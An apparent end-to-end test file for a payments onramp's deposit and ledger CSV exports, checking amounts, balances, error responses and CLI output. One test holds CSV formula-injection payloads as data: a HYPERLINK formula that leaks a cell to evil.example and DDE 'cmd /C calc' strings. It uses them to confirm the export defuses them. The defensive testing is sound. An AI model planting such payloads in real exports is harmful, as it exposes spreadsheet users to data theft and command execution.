import { parse } from 'csv-parse/sync';
import { createTestDatabase } from '../support/db';
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { createMerchant, eventually, onrampCli, startStack, type Stack } from '../support/stack';
import { graphql, request } from '../support/http';
import { createBalanceOnramp, randomAddress, settledBalanceDeposit } from '../support/onramps';
import { sql } from '../support/sql';
import { lagosDay } from '../../src/domain/lagos-day';

// USD and NGN amounts are summed exactly, in millionths, never as floats.
const micro = (value: string): bigint => {
  const negative = value.startsWith('-');
  const [whole, fraction = ''] = value.replace('-', '').split('.');
  const m = BigInt(whole) * 1_000_000n + BigInt(fraction.padEnd(6, '0'));
  return negative ? -m : m;
};

type Row = Record<string, string>;
const rows = (text: string): Row[] => parse(text, { columns: true }) as Row[];

describe('reconciliation exports end to end', () => {
  let stack: Stack;
  let databaseUrl: string;
  let key: string;
  let merchantId: string;
  let otherKey: string;
  const today = lagosDay(new Date());
  const get = (path: string, k = key) => request(stack.url, 'GET', path, { key: k });

  async function settledDeposit(k: string, amountNgn: string) {
    const { deposit, onramp } = await settledBalanceDeposit(stack.url, k, amountNgn);
    return { deposit, clientSecret: onramp.client_secret };
  }

  async function balances(k = key) {
    const read = await get('/v1/merchant/balance', k);
    expect(read.status).toBe(200);
    return read.body.balances as { usd_available: string; usd_pending_withdrawal: string };
  }

  beforeAll(async () => {
    databaseUrl = await createTestDatabase();
    stack = await startStack(databaseUrl, { env: { RATE_LIMIT_PER_MINUTE: '100000' } });
    ({ api_key: key, merchant_id: merchantId } = await createMerchant(databaseUrl, 'Reports Co'));
    ({ api_key: otherKey } = await createMerchant(databaseUrl, 'Other Co'));
  });
  afterAll(() => stack?.stop());

  it('exports the deposits and postings the API shows, summing to the balances', async () => {
    const mine = [];
    for (const amount of ['150000', '98765.43', '2500'])
      mine.push(await settledDeposit(key, amount));
    await settledDeposit(otherKey, '50000');
    const withdrawal = await request(stack.url, 'POST', '/v1/merchant/withdraw', {
      key,
      body: { amount: '7.25', asset: 'USDC', chain: 'BASE', destination_address: randomAddress() },
    });
    expect(withdrawal.status).toBe(202);

    const deposits = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`);
    expect(deposits.status).toBe(200);
    expect(deposits.headers.get('content-type')).toBe('text/csv; charset=utf-8');
    expect(deposits.headers.get('content-disposition')).toBe(
      `attachment; filename="deposits-${today}-${today}.csv"`,
    );
    expect(deposits.text.endsWith('\r\n')).toBe(true);
    const exported = rows(deposits.text);
    // Exactly this merchant's deposits, oldest first, each as the API shows it.
    expect(exported.map((r) => r.deposit_id)).toEqual(mine.map((m) => m.deposit.deposit_id));
    for (const row of exported) {
      const api = (await get(`/v1/deposits/${row.deposit_id}`)).body;
      expect(row).toMatchObject({
        status: 'SETTLED',
        amount_ngn: api.amount_ngn,
        amount_asset: api.amount_asset,
        asset: api.asset,
        bank_reference: api.bank_reference,
        created_at: api.created_at,
        lagos_date: today,
        payer_account_name: api.payer.account_name,
        payer_account_number_last4: api.payer.account_number_last4,
        payer_bank_code: api.payer.bank_code,
      });
      expect(api.payer.account_number_last4).toMatch(/^\d{4}$/);
    }

    const ledger = await get(`/v1/reports/ledger.csv?from=${today}&to=${today}`);
    expect(ledger.status).toBe(200);
    const postings = rows(ledger.text);
    const sumOf = (account: string) =>
      postings.filter((p) => p.account === account).reduce((s, p) => s + micro(p.net), 0n);
    const balance = await balances();
    expect(sumOf('usd_available')).toBe(micro(balance.usd_available));
    expect(sumOf('usd_pending_withdrawal')).toBe(micro(balance.usd_pending_withdrawal));
    // The credits are the deposits' amounts; the withdrawal names its id.
    const credits = postings.filter((p) => p.kind === 'deposit_fx');
    expect(credits.reduce((s, p) => s + micro(p.net), 0n)).toBe(
      exported.reduce((s, r) => s + micro(r.amount_asset), 0n),
    );
    const moved = postings.filter((p) => p.kind === 'withdrawal_requested');
    expect(moved.map((p) => [p.account, p.net, p.withdrawal_id]).sort()).toEqual(
      [
        ['usd_available', '-7.250000', withdrawal.body.withdrawal_id],
        ['usd_pending_withdrawal', '7.250000', withdrawal.body.withdrawal_id],
      ].sort(),
    );
  });

  it('writes no cell a spreadsheet would run: text defused, amounts still numbers', async () => {
    const { api_key: formulaKey } = await createMerchant(databaseUrl, 'Formula Co');
    const onramp = await createBalanceOnramp(stack.url, formulaKey);
    // A payer (through the sandbox bank, as a bank would send it) names himself a formula.
    const payerName = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")';
    const transfer = async (reference: string) => {
      const answer = await request(stack.url, 'POST', '/v1/sandbox/deposits', {
        key: formulaKey,
        body: {
          account_number: onramp.virtual_account.account_number,
          amount_ngn: '2500.00',
          bank_reference: reference,
          payer: { account_name: payerName, account_number: '0123456789', bank_code: '058' },
        },
      });
      expect([answer.status, answer.body.error]).toEqual([201, undefined]);
      return answer.body.deposit_id as string;
    };
    const scenario = (fxFailure: string) =>
      graphql(
        stack.url,
        formulaKey,
        'mutation($i: SandboxScenarioInput!) { setSandboxScenario(input: $i) { fxFailure } }',
        { i: { fxFailure } },
      );
    const statusOf = (id: string, status: string) =>
      eventually(async () => {
        const read = await request(stack.url, 'GET', `/v1/deposits/${id}`, { key: formulaKey });
        return read.body.status === status ? true : undefined;
      });
    await scenario('TEMPORARY');
    const flagged = await transfer(`@SUM(1+1)*cmd|'/C_calc'!A${Date.now()}`);
    await statusOf(flagged, 'FLAGGED');
    await scenario('PERMANENT');
    const failed = await transfer(`-2+3-${Date.now()}`);
    await statusOf(failed, 'FAILED');
    await scenario('NONE');
    // Reasons and account digits as a provider, a chain or a deposit stored before this
    // version could leave them (no API writes them): the export must defuse them too.
    await sql(
      databaseUrl,
      'update deposits set flag_reason = $2, sender_account = $3 where id = $1',
      [flagged, "=cmd|' /C calc'!A0", '123456-1+2'],
    );
    await sql(databaseUrl, 'update deposits set failure_reason = $2 where id = $1', [
      failed,
      '+1+2',
    ]);

    const exported = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`, formulaKey);
    expect(exported.status).toBe(200);
    const byId = new Map(rows(exported.text).map((r) => [r.deposit_id, r]));
    expect(byId.get(flagged)).toMatchObject({
      payer_account_name: `'${payerName}`,
      bank_reference: expect.stringMatching(/^'@SUM/),
      flag_reason: "'=cmd|' /C calc'!A0",
      payer_account_number_last4: "'-1+2",
      amount_ngn: '2500.00',
    });
    expect(byId.get(failed)).toMatchObject({
      bank_reference: expect.stringMatching(/^'-2\+3-/),
      failure_reason: "'+1+2",
      payer_account_number_last4: '6789',
      amount_ngn: '2500.00',
    });
    // No cell of either report starts like a formula, except amounts: exact negative decimals.
    const ledger = await get(`/v1/reports/ledger.csv?from=${today}&to=${today}`, formulaKey);
    expect(ledger.status).toBe(200);
    for (const text of [exported.text, ledger.text]) {
      for (const record of parse(text) as string[][]) {
        for (const cell of record) {
          if (/^[=+\-@\t\r]/.test(cell)) expect(cell).toMatch(/^-[0-9]+\.[0-9]+$/);
        }
      }
    }
  });

  it('refuses what it should, in the error shape', async () => {
    const missing = await get(`/v1/reports/deposits.csv?to=${today}`);
    expect([missing.status, missing.body.error.code]).toEqual([400, 'missing_parameter']);
    const reversed = await get('/v1/reports/ledger.csv?from=2026-11-02&to=2026-11-01');
    expect([reversed.status, reversed.body.error.code]).toEqual([400, 'invalid_parameter']);
    const tooLong = await get('/v1/reports/ledger.csv?from=2025-01-01&to=2026-06-01');
    expect([tooLong.status, tooLong.body.error.code]).toEqual([400, 'invalid_parameter']);
    const { clientSecret } = await settledDeposit(key, '1500');
    const asClient = await get(`/v1/reports/deposits.csv?from=${today}&to=${today}`, clientSecret);
    expect([asClient.status, asClient.body.error.code]).toEqual([403, 'forbidden']);
    const anonymous = await request(
      stack.url,
      'GET',
      `/v1/reports/ledger.csv?from=${today}&to=${today}`,
    );
    expect([anonymous.status, anonymous.body.error.code]).toEqual([401, 'unauthorized']);
  });

  it('gives the operator the same files from the command line', async () => {
    const period = `from=${today}&to=${today}`;
    for (const report of ['deposits', 'ledger']) {
      const api = await get(`/v1/reports/${report}.csv?${period}`);
      const args = ['reports', report, '--merchant', merchantId, '--from', today, '--to', today];
      expect(await onrampCli(databaseUrl, args)).toBe(api.text);
      const out = join(mkdtempSync(join(tmpdir(), 'reports-')), `${report}.csv`);
      const result = await onrampCli(databaseUrl, [...args, '--out', out, '--json']);
      expect(result).toEqual({
        report: `${report}.csv`,
        file: out,
        rows: rows(api.text).length,
        bytes: Buffer.byteLength(api.text),
      });
      expect(readFileSync(out, 'utf8')).toBe(api.text);
    }
    await expect(
      onrampCli(databaseUrl, [
        'reports',
        'ledger',
        '--merchant',
        'mer_nope',
        '--from',
        today,
        '--to',
        today,
      ]),
    ).rejects.toMatchObject({ code: 1 });
  });
});
